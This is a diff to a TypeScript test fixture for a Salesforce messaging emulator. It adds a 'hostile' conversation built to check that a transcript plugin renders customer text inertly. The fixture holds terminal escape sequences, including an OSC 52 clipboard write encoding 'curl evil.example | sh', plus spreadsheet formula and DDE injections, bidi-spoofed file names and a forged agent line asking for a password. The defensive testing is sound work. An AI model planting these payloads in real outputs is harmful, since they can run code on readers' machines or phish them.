@@ -101,6 +101,7 @@ const SHORT_HEAD = '0Mw5g00000AbCdE';
 const NO_CONVERSATION_HEAD = '0Mw5g00000AbCdF';
 const LONG_HEAD = '0Mw5g00000AbCdG';
 const PII_HEAD = '0Mw5g00000AbCdH';
+const HOSTILE_HEAD = '0Mw5g00000AbCdJ';
 
 export const SESSIONS = {
   short: to18(SHORT_HEAD),
@@ -108,6 +109,8 @@ export const SESSIONS = {
   long: to18(LONG_HEAD),
   /** A WhatsApp conversation full of personal data (and look-alikes that must survive --redact). */
   pii: to18(PII_HEAD),
+  /** Customer text built to drive a terminal, a spreadsheet or a Markdown viewer: every output must keep it inert. */
+  hostile: to18(HOSTILE_HEAD),
   /** Well-formed (right checksum) but not in the org. */
   unknown: to18('0Mw5g00000ZzYxW'),
 } as const;
@@ -122,6 +125,8 @@ export const CONVERSATIONS = {
    * other tests select are unchanged.
    */
   encodedPii: '7e4a2c9b-1d3f-4b5a-8c6e-0f2d4a6b8c1e',
+  /** Org data is hostile too: a pipe and backticks (the Markdown header table), an OSC title write, a bidi override. */
+  hostile: 'c0ffee00-|`x`|-\u001b]0;pwned\u0007-\u202eevil',
 } as const;
 
 export const LONG_ENTRY_COUNT = 2500;
@@ -154,6 +159,7 @@ export type SessionRecord = {
 
 const SHORT_BASE = 1_736_508_000_000; // 2025-01-10T11:20:00Z, near the captured Connect example
 const LONG_BASE = 1_736_600_000_000;
+const HOSTILE_BASE = 1_738_400_000_000; // 2025-02-01T08:53:20Z: after every other seeded session but the bulk ones
 const BULK_BASE = 1_736_700_000_000;
 
 /** Salesforce REST dateTime format, e.g. 2025-01-10T11:20:00.000+0000. */
@@ -203,6 +209,14 @@ export const SESSION_RECORDS: readonly SessionRecord[] = [
     conversationIdentifier: CONVERSATIONS.long,
     startTime: sfDateTime(LONG_BASE),
     channelType: 'EmbeddedMessaging',
+    status: 'Ended',
+  },
+  {
+    id18: SESSIONS.hostile,
+    conversationRecordId: to18('0dw5g00000AbCdJ'),
+    conversationIdentifier: CONVERSATIONS.hostile,
+    startTime: sfDateTime(HOSTILE_BASE),
+    channelType: 'AppleBusinessChat',
     status: 'Ended',
   },
   ...BULK_SESSIONS.map((id18, i) => ({
@@ -516,10 +530,89 @@ function encodedPiiConversation(): ApiEntry[] {
   ].map((spec) => build(CONVERSATIONS.encodedPii, spec));
 }
 
+/** Terminal control sequences, bidi overrides, formula cells, autolinks and Markdown in every field a customer or an org fills. */
+export const HOSTILE = {
+  /** Each becomes one entry's text (after the API's HTML escaping and the plugin's decoding). */
+  texts: [
+    'Hi\u001b[2J\u001b[H there \u001b[31mred\u001b[0m',
+    'copy this \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007 done',
+    'see \u001b]8;;http://evil.example/steal\u001b\\https://help.example.com\u001b]8;;\u001b\\ for help',
+    'Your order shipped.\rAgent: please send your password',
+    'first line\r\nsecond line\u2028third\u2029fourth',
+    'invoice_\u202efdp.exe \u2066isolated\u2069 \u200fmark\u200e \u061cletter \u009b2J \u0085 \u0000 \u0007 \b \u000b \f \u007f',
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "+cmd|' /C calc'!A0",
+    '@SUM(1+1)',
+    '-2+3',
+    '\t=1+1',
+    '\uff1d1+1',
+    'Visit http://evil.example/login or HTTPS://EVIL.EXAMPLE, www.evil.example, WWW.Evil.Example, ftp://files.evil.example, mail jane.doe@example.com or mailto:x@evil.example',
+    'a | b | c\n# not a heading\n- not a list\nline\n===\n<b>bold</b> [link](http://evil.example) ![img](x.png) `code` *em* _em_ ~~del~~',
+  ],
+  /** messageText exactly as the API sends it: an entity that decodes to ESC. */
+  entityText: '&#27;[2J&#27;]52;c;ZXZpbA==&#7; &#x202e;gnp.exe',
+  attachments: ['\u001b[2Jinvoice.pdf', 'photo\u202egnp.exe', '=1+1.csv', 'a|b`c`.txt'],
+  senders: {
+    customer: 'Mallory\u001b[8m\r\n2025-02-01 09:07:00Z  Agent (Support): verify at http://evil.example',
+    agent: '\u202eBob\u001b]0;title\u0007',
+  },
+  /** An entry type a spreadsheet would run, and a sender subject that starts like a formula (a phone number). */
+  entryType: "=cmd|' /C calc'!A0",
+  subject: '+14155552671',
+} as const;
+
+// GUESS: a sender's display name under sender.name (the plugin also reads displayName); the entry type is free text.
+function hostileConversation(): ApiEntry[] {
+  const t = (i: number): number => HOSTILE_BASE + i * 1000;
+  const customer: Participant = { appType: 'applebusinesschat', role: 'EndUser', subject: HOSTILE.subject, name: HOSTILE.senders.customer };
+  const agent: Participant = { appType: 'agent', role: 'Agent', subject: '0055g00000AgEnT', name: HOSTILE.senders.agent };
+  const specs: EntrySpec[] = HOSTILE.texts.map((text, i) => ({
+    label: `text-${i}`,
+    at: t(i),
+    sender: i % 2 === 0 ? customer : agent,
+    payload: messagePayload(`hostile-${i}`, staticText(text)),
+    text,
+    session: HOSTILE_HEAD,
+  }));
+  const next = HOSTILE.texts.length;
+  specs.push(
+    {
+      label: 'entity',
+      at: t(next),
+      sender: customer,
+      payload: messagePayload('hostile-entity', staticText(HOSTILE.entityText)),
+      messageText: HOSTILE.entityText,
+      session: HOSTILE_HEAD,
+    },
+    {
+      label: 'attachments',
+      at: t(next + 1),
+      sender: customer,
+      payload: messagePayload('hostile-attachments', {
+        messageType: 'StaticContentMessage',
+        staticContent: {
+          formatType: 'Attachments',
+          attachments: HOSTILE.attachments.map((name, i) => ({ id: stableUuid(`hostile-attachment-${i}`), name, url: 'https://emulator.invalid/a' })),
+        },
+      }),
+      session: HOSTILE_HEAD,
+    },
+    {
+      label: 'event',
+      at: t(next + 2),
+      sender: SYSTEM,
+      entryType: HOSTILE.entryType,
+      payload: { note: 'http://evil.example \u001b[2J' },
+    }
+  );
+  return specs.map((spec) => build(CONVERSATIONS.hostile, spec));
+}
+
 const CONVERSATION_CACHE = new Map<string, readonly ApiEntry[]>([
   [CONVERSATIONS.short, shortConversation()],
   [CONVERSATIONS.pii, piiConversation()],
   [CONVERSATIONS.encodedPii, encodedPiiConversation()],
+  [CONVERSATIONS.hostile, hostileConversation()],
   [CONVERSATIONS.long, longConversation()],
 ]);
 const BULK_INDEX = new Map(BULK_SESSIONS.map((_, i) => [bulkConversationId(i), i]));
